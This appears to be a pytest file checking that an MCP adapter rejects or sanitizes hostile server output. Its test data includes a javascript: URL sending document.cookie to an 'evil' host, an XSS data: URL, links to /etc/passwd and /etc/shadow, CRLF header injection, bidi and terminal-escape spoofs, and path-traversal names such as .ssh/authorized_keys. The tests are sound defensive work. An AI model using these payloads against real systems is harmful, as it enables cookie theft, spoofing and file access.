"""`toolnexus.adapters.mcp` on what an MCP server may send a host: the URLs of links and of
URL-mode elicitations (only `http` and `https` reach a person or a provider), MIME types with
line breaks, names and prompts with bidi or terminal control characters; hostile payloads,
wire errors naming the path; part names that are never a path."""

from __future__ import annotations

import json
from typing import Any

import pytest

from toolnexus import WireError, pending_of
from toolnexus.adapters import from_mcp_call_tool_result


def _url_elicitation(url: str, message: str = "Sign in to continue") -> dict[str, Any]:
    return {
        "resultType": "input_required",
        "inputRequests": {
            "u": {
                "method": "elicitation/create",
                "params": {"mode": "url", "message": message, "url": url, "elicitationId": "e1"},
            }
        },
    }


def test_a_url_elicitation_with_an_https_url_is_an_authorization_request():
    request = pending_of(from_mcp_call_tool_result(_url_elicitation("https://example.com/login")))
    assert request is not None
    assert (request.kind, request.url) == ("authorization", "https://example.com/login")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('//evil/'+document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "example.com/login",
        "https://example.com/\u202emoc.elgoog",
        "https://example.com/\r\nSet-Cookie: a=b",
    ],
)
def test_a_url_elicitation_with_any_other_url_is_refused_at_its_path(url):
    with pytest.raises(WireError) as caught:
        from_mcp_call_tool_result(_url_elicitation(url))
    [(path, message)] = caught.value.errors
    assert path == '$.inputRequests["u"].params.url'
    assert "http or https" in message or "holds a" in message


def test_links_keep_http_and_https_decode_data_and_leave_out_the_rest_with_a_note():
    result = from_mcp_call_tool_result(
        {
            "content": [
                {"type": "text", "text": "Here is the report."},
                {
                    "type": "resource_link",
                    "uri": "javascript:alert(1)",
                    "name": "report.html",
                    "mimeType": "text/html",
                },
                {"type": "resource_link", "uri": "file:///etc/shadow", "name": "shadow"},
                {
                    "type": "resource_link",
                    "uri": "HTTPS://example.com/r.pdf",
                    "name": "r.pdf",
                    "mimeType": "application/pdf",
                },
                {"type": "resource_link", "uri": "data:text/html,%3Cb%3Ehi%3C%2Fb%3E", "name": "inline.html"},
            ]
        }
    )
    assert [(p.kind, p.url, p.mime_type, p.name) for p in result.parts] == [
        ("file", "HTTPS://example.com/r.pdf", "application/pdf", "r.pdf"),
        ("file", "", "text/html", "inline.html"),
    ]
    assert result.parts[1].raw() == b"<b>hi</b>"
    assert result.output == (
        "Here is the report.\n"
        "[resource_link 'report.html' left out: its URL is not an http, https or data: URL]\n"
        "[resource_link 'shadow' left out: its URL is not an http, https or data: URL]"
    )
    assert "javascript" not in result.output and "/etc/shadow" not in result.output


@pytest.mark.parametrize(
    ("block", "path"),
    [
        ({"type": "image", "data": "aGk=", "mimeType": "image/png\r\nX-Evil: 1"}, "$.content[0].mimeType"),
        ({"type": "audio", "data": "aGk=", "mimeType": "audio/wav\u0000"}, "$.content[0].mimeType"),
        ({"type": "image", "data": "aGk=", "mimeType": " "}, "$.content[0].mimeType"),
        (
            {
                "type": "resource",
                "resource": {"uri": "x:/a.bin", "mimeType": "application/pdf\n", "blob": "aGk="},
            },
            "$.content[0].resource.mimeType",
        ),
        (
            {
                "type": "resource_link",
                "uri": "https://example.com/a",
                "name": "a",
                "mimeType": "text/html\r\n",
            },
            "$.content[0].mimeType",
        ),
    ],
)
def test_a_mime_type_with_a_control_character_is_refused_at_its_path(block, path):
    with pytest.raises(WireError) as caught:
        from_mcp_call_tool_result({"content": [block]})
    assert [p for p, _ in caught.value.errors] == [path]


def test_names_show_control_and_bidi_formatting_characters_as_replacement_characters():
    result = from_mcp_call_tool_result(
        {
            "content": [
                {"type": "resource_link", "uri": "https://example.com/a", "name": "invoice\u202egpj.exe"},
                {
                    "type": "resource",
                    "resource": {
                        "uri": "x:/dir/a%E2%80%AEfdp.exe",
                        "mimeType": "application/pdf",
                        "blob": "aGk=",
                    },
                },
                {"type": "resource", "resource": {"uri": "x:/dir/b%1B%5B2J.bin", "blob": "aGk="}},
            ]
        }
    )
    assert [p.name for p in result.parts] == ["invoice\ufffdgpj.exe", "a\ufffdfdp.exe", "b\ufffd[2J.bin"]


def test_prompts_shown_to_a_person_keep_lines_and_lose_terminal_and_bidi_controls():
    message = "Allow\u0000 this?\r\n\u001b[2J\u001b]0;owned\u0007Really \u009b31m\u202eeteled\ttab\rover"
    request = pending_of(
        from_mcp_call_tool_result(
            {
                "resultType": "input_required",
                "inputRequests": {
                    "f": {
                        "method": "elicitation/create",
                        "params": {"mode": "form", "message": message, "requestedSchema": {}},
                    },
                    "x": {"method": "weird/\u001b[31mmethod", "params": {}},
                },
            }
        )
    )
    assert request is not None
    assert request.prompt == (
        "Allow\ufffd this?\n\ufffd[2J\ufffd]0;owned\ufffdReally \ufffd31m\ufffdeteled\ttab\ufffdover\n"
        "[the server asks for weird/\ufffd[31mmethod]"
    )
    # What the server sent is kept as it was for the retry, in data["mcp"].
    assert request.data["mcp"]["inputRequests"]["f"]["params"]["message"] == message


# -- MCP: hostile CallToolResult payloads ----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "path"),
    [
        (
            '{"content":[{"type":"resource","resource":{"uri":"http://[","blob":"AAAA"}}]}',
            "$.content[0].resource.uri",
        ),
        ('{"content":[],"structuredContent":{"score":NaN}}', "$.structuredContent"),
        ('{"content":[],"structuredContent":[Infinity]}', "$.structuredContent"),
    ],
    ids=["bad IPv6 host", "NaN", "Infinity"],
)
def test_hostile_mcp_payloads_are_wire_errors_naming_the_path(text: str, path: str) -> None:
    with pytest.raises(WireError) as info:
        from_mcp_call_tool_result(json.loads(text))
    assert info.value.path == path


@pytest.mark.parametrize(
    "tail",
    ["..%2F..%2F.ssh%2Fauthorized_keys", "..", "%2E%2E", "a%5C..%5C..%5Cwin.ini", "x/..%2f", "..%2F"],
)
def test_a_part_name_from_a_resource_uri_is_never_a_path(tail: str) -> None:
    uri = f"toolnexus://parts/0/{tail}"
    doc = {
        "content": [{"type": "resource", "resource": {"uri": uri, "blob": "AAAA", "mimeType": "text/plain"}}]
    }
    name = from_mcp_call_tool_result(doc).parts[0].name
    assert name is None or ("/" not in name and "\\" not in name and name not in (".", ".."))
